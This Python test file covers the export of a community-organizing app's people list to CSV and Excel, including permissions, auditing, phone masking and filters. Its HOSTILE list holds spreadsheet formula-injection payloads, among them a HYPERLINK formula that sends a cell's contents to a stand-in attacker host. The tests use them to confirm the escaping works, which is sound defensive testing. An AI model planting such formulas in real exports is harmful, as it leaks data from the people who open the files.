"""Exports of the people list (issue 4, "Exports"): permission-checked, audited with
counts and column names only, phones masked for roles that may not reveal them,
formula injection neutralized, CSV readable by Excel (UTF-8 with BOM), XLSX readable
by openpyxl, bad input refused with a message and nothing exported."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.utils import translation
from django_scopes import scope, scopes_disabled

from groundswell.core.errors import DomainError, InvalidInput
from groundswell.core.models import AuditEvent, Base, Role
from groundswell.core.permissions import CAPABILITIES
from groundswell.people import services
from groundswell.people.models import Person, Tag
from groundswell.people.services import exports
from tests.conftest import login

pytestmark = pytest.mark.django_db

URL = "/o/front-street/people/export/"
ALL_COLUMNS = list(exports.COLUMNS)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555", "@SUM(1)",
           "-2+3", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.fixture(autouse=True)
def _back_to_english():
    yield
    translation.deactivate()


def organizer(personas):
    return personas.member("organizer")


def exported_events():
    with scopes_disabled():
        return list(AuditEvent.objects.filter(code="people.list.exported").order_by("seq"))


@pytest.fixture
def people(in_org):
    """Three people of front-street: one with everything, one hostile, one bare."""
    actor = organizer(in_org)
    jose = services.create_person(
        actor, given_name="José", family_name="Rodríguez", preferred_name="Pepe",
        language="es", phone="(215) 555-0134", email="jose@example.org",
        street="2417 north front street", unit="2nd floor rear", city="Philadelphia",
        state="PA", postal_code="19133", base=in_org.base, tags=["block party", "hearing"])
    hostile = services.create_person(actor, given_name=HOSTILE[0], family_name="+1 555",
                                     preferred_name="@SUM(1)", tags=["-2+3"])
    bare = services.create_person(actor, given_name="Ngozi", family_name="Okafor",
                                  phone="267-555-0199")
    return {"jose": jose, "hostile": hostile, "bare": bare}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula cell: {cell.value!r}"
    return [[("" if v is None else v) for v in row] for row in sheet.iter_rows(values_only=True)]


# --- the service ----------------------------------------------------------------------------


def test_csv_export_has_a_bom_accents_all_columns_and_an_audit_entry(in_org, people):
    result = services.export_people(organizer(in_org), Person.objects.all(), "csv",
                                    ALL_COLUMNS)
    rows = read_csv(result.content)
    assert rows[0] == ["Given name", "Family name", "Preferred name", "Language", "Phone",
                       "Email", "Street address", "Unit", "City", "ZIP code", "Base",
                       "Engagement stage", "Tags", "Last contact"]
    assert len(rows) == 4 and result.count == 3
    jose = next(r for r in rows if r[1] == "Rodríguez")
    assert jose[:6] == ["José", "Rodríguez", "Pepe", "Spanish", "(215) 555-0134",
                        "jose@example.org"]
    assert jose[6:13] == ["2417 N FRONT ST", "FL 2 REAR", "PHILADELPHIA", "19133",
                          "North Front Street", "Contact", "block party, hearing"]
    assert result.content_type.startswith("text/csv")
    assert re.fullmatch(r"people-front-street-\d{4}-\d{2}-\d{2}\.csv", result.filename)

    [event] = exported_events()
    assert event.data == {"count": 3, "format": "csv", "columns": ALL_COLUMNS,
                          "phones": "full"}
    assert event.actor_id == organizer(in_org).user_id
    text = json.dumps(event.data)
    assert "Rodr" not in text and "0134" not in text and "example.org" not in text


def test_formula_cells_are_neutralized_in_csv_and_xlsx(in_org, people):
    for value in HOSTILE:
        assert exports.neutralize(value) == "'" + value
    assert exports.neutralize("José") == "José"
    assert exports.neutralize("O'Brien-Smith") == "O'Brien-Smith"
    assert exports.neutralize("") == ""
    assert exports.neutralize("bell\x07") == "bell"

    columns = ["given_name", "family_name", "preferred_name", "tags"]
    qs = Person.objects.filter(pk=people["hostile"].pk)
    csv_rows = read_csv(services.export_people(organizer(in_org), qs, "csv", columns).content)
    expected = ["'" + HOSTILE[0], "'+1 555", "'@SUM(1)", "'-2+3"]
    assert csv_rows[1] == expected
    xlsx_rows = read_xlsx(services.export_people(organizer(in_org), qs, "xlsx",
                                                 columns).content)
    assert xlsx_rows[1] == expected


def test_xlsx_opens_with_openpyxl_and_has_the_right_rows(in_org, people):
    result = services.export_people(organizer(in_org), Person.objects.all(), "xlsx",
                                    ["family_name", "given_name", "phone", "postal_code"])
    assert result.filename.endswith(".xlsx")
    assert result.content_type.endswith("spreadsheetml.sheet")
    rows = read_xlsx(result.content)
    assert rows[0] == ["Family name", "Given name", "Phone", "ZIP code"]
    assert sorted(rows[1:]) == sorted([
        ["'+1 555", "'" + HOSTILE[0], "", ""],
        ["Okafor", "Ngozi", "(267) 555-0199", ""],
        ["Rodríguez", "José", "(215) 555-0134", "19133"],
    ])


def test_phones_are_masked_for_a_role_that_may_not_reveal_them(in_org, people, monkeypatch):
    monkeypatch.setitem(CAPABILITIES, "people.reveal_phone", frozenset({Role.ADMIN}))
    actor = organizer(in_org)
    assert not exports.phones_in_full(actor)
    rows = read_csv(services.export_people(actor, Person.objects.order_by("given_name"),
                                           "csv", ["given_name", "phone"]).content)
    assert rows[1:] == [["'" + HOSTILE[0], ""], ["José", "••• ••• 0134"],
                        ["Ngozi", "••• ••• 0199"]]
    assert b"555" not in services.export_people(actor, Person.objects.all(), "xlsx",
                                                ["phone"]).content
    assert exported_events()[0].data["phones"] == "masked"
    # An admin (who may reveal) still gets them in full.
    rows = read_csv(services.export_people(in_org.member("admin"), Person.objects.all(),
                                           "csv", ["phone"]).content)
    assert ["(215) 555-0134"] in rows


@pytest.mark.parametrize("role", ["canvasser", "dispatcher", "program_staff"])
def test_roles_without_export_are_refused_and_nothing_is_audited(in_org, people, role):
    with pytest.raises(PermissionDenied):
        services.export_people(in_org.member(role), Person.objects.all(), "csv", ["given_name"])
    assert exported_events() == []


@pytest.mark.parametrize("fmt, columns, field", [
    ("pdf", ["given_name"], "format"),
    ("", ["given_name"], "format"),
    ("csv", [], "columns"),
    ("csv", ["given_name", "immigration_status"], "columns"),
    ("xlsx", ["search_text"], "columns"),
])
def test_bad_format_or_columns_export_nothing(in_org, people, fmt, columns, field):
    with pytest.raises(InvalidInput) as info:
        services.export_people(organizer(in_org), Person.objects.all(), fmt, columns)
    assert info.value.field == field
    assert exported_events() == []


def test_an_empty_list_or_one_over_the_cap_exports_nothing(in_org, people, monkeypatch):
    with pytest.raises(DomainError, match="nothing to export"):
        services.export_people(organizer(in_org), Person.objects.none(), "csv", ["given_name"])
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    with pytest.raises(DomainError, match="at most 2"):
        services.export_people(organizer(in_org), Person.objects.all(), "csv", ["given_name"])
    assert exported_events() == []


def test_columns_keep_the_chosen_order_and_repeats_are_dropped(in_org, people):
    qs = Person.objects.filter(pk=people["bare"].pk)
    rows = read_csv(services.export_people(organizer(in_org), qs, "csv",
                                           ["family_name", "given_name", "family_name"]).content)
    assert rows == [["Family name", "Given name"], ["Okafor", "Ngozi"]]


def test_only_people_the_member_may_see_are_exported(in_org, people):
    actor = organizer(in_org)
    somerset = Base.objects.create(organization=in_org.org, name="Somerset blocks")
    services.create_person(actor, given_name="Somerset", family_name="Person", base=somerset)
    limited = in_org.member("admin")
    limited.bases.add(in_org.base)
    rows = read_csv(services.export_people(limited, Person.objects.all(), "csv",
                                           ["given_name"]).content)
    names = {r[0] for r in rows[1:]}
    # People of their base and people in no base; not the other base's.
    assert "José" in names and "Ngozi" in names and "Somerset" not in names

    forgotten = people["bare"]
    forgotten.forgotten_at = forgotten.created_at
    forgotten.save(update_fields=["forgotten_at"])
    rows = read_csv(services.export_people(actor, Person.objects.all(), "csv",
                                           ["given_name"]).content)
    assert "Ngozi" not in {r[0] for r in rows[1:]}


def test_headers_follow_the_language_of_the_request(in_org, people):
    with translation.override("es"):
        rows = read_csv(services.export_people(organizer(in_org), Person.objects.all(), "csv",
                                               ["given_name", "language", "phone"]).content)
    assert rows[0] == ["Nombre", "Idioma", "Teléfono"]
    assert ["José", "Español", "(215) 555-0134"] in rows


# --- the page ------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["admin", "organizer"])
def test_the_page_shows_the_count_and_what_happens_to_phones(client, personas, people, role):
    login(client, personas.member(role))
    response = client.get(URL)
    assert response.status_code == 200
    html = response.content.decode()
    assert "This list has 3 people." in html
    assert "Phone numbers are exported in full" in html
    assert "at most 10,000 people" in html
    assert 'type="checkbox"' in html and 'value="xlsx"' in html


def test_the_page_says_phones_are_masked_for_a_role_without_reveal(client, personas, people,
                                                                   monkeypatch):
    monkeypatch.setitem(CAPABILITIES, "people.reveal_phone", frozenset({Role.ADMIN}))
    login(client, personas.member("organizer"))
    assert "Phone numbers are exported masked" in client.get(URL).content.decode()
    response = client.post(URL, {"format": "csv", "columns": ["given_name", "phone"]})
    rows = read_csv(response.content)
    assert ["José", "••• ••• 0134"] in rows and b"555" not in response.content
    assert exported_events()[0].data["phones"] == "masked"


def test_post_downloads_an_attachment_without_personal_data_in_its_name(client, personas,
                                                                        people):
    login(client, personas.member("organizer"))
    response = client.post(URL, {"format": "csv", "columns": ["given_name", "family_name"]})
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="people-front-street-\d{4}-\d{2}-\d{2}\.csv"',
                        disposition)
    assert response["Cache-Control"] == "no-store"
    rows = read_csv(response.content)
    assert len(rows) == 4 and ["José", "Rodríguez"] in rows
    [event] = exported_events()
    assert event.data["count"] == 3 and event.data["columns"] == ["given_name", "family_name"]

    response = client.post(URL, {"format": "xlsx", "columns": ["given_name"]})
    assert response.status_code == 200 and response["Content-Disposition"].endswith('.xlsx"')
    assert len(read_xlsx(response.content)) == 4


def test_the_list_filters_apply_to_the_export(client, personas, people):
    login(client, personas.member("organizer"))
    with scope(organization=personas.org):
        tag = Tag.objects.get(name="block party")
    page = client.get(URL, {"tag": tag.pk, "language": "es"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "This list has 1 person." in html and "block party" in html
    assert f'action="?tag={tag.pk}&amp;language=es"' in html
    response = client.post(f"{URL}?tag={tag.pk}&language=es",
                           {"format": "csv", "columns": ["given_name"]})
    assert read_csv(response.content) == [["Given name"], ["José"]]
    assert exported_events()[0].data["count"] == 1


def test_the_people_list_links_to_the_export_with_its_filters(client, personas, people):
    with scope(organization=personas.org):
        tag = Tag.objects.get(name="block party")
    login(client, personas.member("organizer"))
    html = client.get("/o/front-street/people/", {"tag": tag.pk}).content.decode()
    assert f'href="{URL}?tag={tag.pk}"' in html
    client.logout()
    login(client, personas.member("dispatcher"))  # may see the list, not export it
    assert URL not in client.get("/o/front-street/people/").content.decode()


def test_the_search_of_the_people_list_applies_too(client, personas, people):
    login(client, personas.member("organizer"))
    client.post("/o/front-street/people/", {"q": "rodriguez"})  # remembered in the session
    html = client.get(URL).content.decode()
    assert "This list has 1 person." in html and "rodriguez" in html
    response = client.post(URL, {"format": "csv", "columns": ["given_name"]})
    assert read_csv(response.content) == [["Given name"], ["José"]]
    client.post("/o/front-street/people/", {"q": ""})
    assert "This list has 3 people." in client.get(URL).content.decode()


@pytest.mark.parametrize("query", ["tag=999999", "tag=abc", "language=xx", "stage=0",
                                   "base=-1", "contacted_after=yesterday"])
def test_bad_filters_are_a_clear_400_and_export_nothing(client, personas, people, query):
    login(client, personas.member("organizer"))
    page = client.get(f"{URL}?{query}")
    assert page.status_code == 400
    assert "These filters cannot be used" in page.content.decode()
    response = client.post(f"{URL}?{query}", {"format": "csv", "columns": ["given_name"]})
    assert response.status_code == 400 and "Content-Disposition" not in response
    assert exported_events() == []


def test_a_tag_of_another_organization_is_a_bad_filter(client, personas, people):
    with scope(organization=personas.other_org):
        foreign = Tag.objects.create(organization=personas.other_org, name="block party")
    login(client, personas.member("organizer"))
    response = client.post(f"{URL}?tag={foreign.pk}", {"format": "csv",
                                                        "columns": ["given_name"]})
    assert response.status_code == 400
    assert exported_events() == []


@pytest.mark.parametrize("data, message", [
    ({"format": "pdf", "columns": ["given_name"]}, "Choose CSV or Excel."),
    ({"columns": ["given_name"]}, "This field is required."),
    ({"format": "csv", "columns": ["immigration_status"]}, "Choose columns from the list."),
    ({"format": "csv"}, "Choose at least one column."),
    ({}, "Choose at least one column."),
])
def test_bad_choices_are_a_clear_400_and_export_nothing(client, personas, people, data,
                                                       message):
    login(client, personas.member("organizer"))
    response = client.post(URL, data)
    assert response.status_code == 400 and "Content-Disposition" not in response
    assert message in response.content.decode()
    assert exported_events() == []


def test_a_list_over_the_cap_says_so_and_exports_nothing(client, personas, people,
                                                         monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    login(client, personas.member("organizer"))
    assert "An export holds at most 2 people." in client.get(URL).content.decode()
    response = client.post(URL, {"format": "csv", "columns": ["given_name"]})
    assert response.status_code == 400 and "Content-Disposition" not in response
    assert "This list has 3 people; an export holds at most 2." in response.content.decode()
    assert exported_events() == []


@pytest.mark.parametrize("role, status", [("canvasser", 403), ("dispatcher", 403),
                                          ("program_staff", 403)])
def test_roles_without_export_get_403_on_get_and_post(client, personas, people, role, status):
    login(client, personas.member(role))
    assert client.get(URL).status_code == status
    response = client.post(URL, {"format": "csv", "columns": ["given_name"]})
    assert response.status_code == status and "Content-Disposition" not in response
    assert exported_events() == []


def test_another_organizations_member_gets_404_and_nothing(client, personas, people):
    login(client, personas.outsider)
    assert client.get(URL).status_code == 404
    response = client.post(URL, {"format": "csv", "columns": ["given_name"]})
    assert response.status_code == 404
    assert exported_events() == []


def test_anonymous_visitors_log_in_first(client, personas, people):
    response = client.post(URL, {"format": "csv", "columns": ["given_name"]})
    assert response.status_code == 302 and "/account/login/" in response["Location"]
    assert exported_events() == []


def test_the_page_in_spanish(client, personas, people):
    membership = personas.member("organizer")
    membership.user.language = "es"
    membership.user.save(update_fields=["language"])
    login(client, membership)
    html = client.get(URL).content.decode()
    assert '<html lang="es">' in html
    for text in ("Exportar personas", "Esta lista tiene 3 personas.", "Columnas",
                 "Descargar", "registro de auditoría"):
        assert text in html, text
    assert "Export people" not in html and "Download" not in html
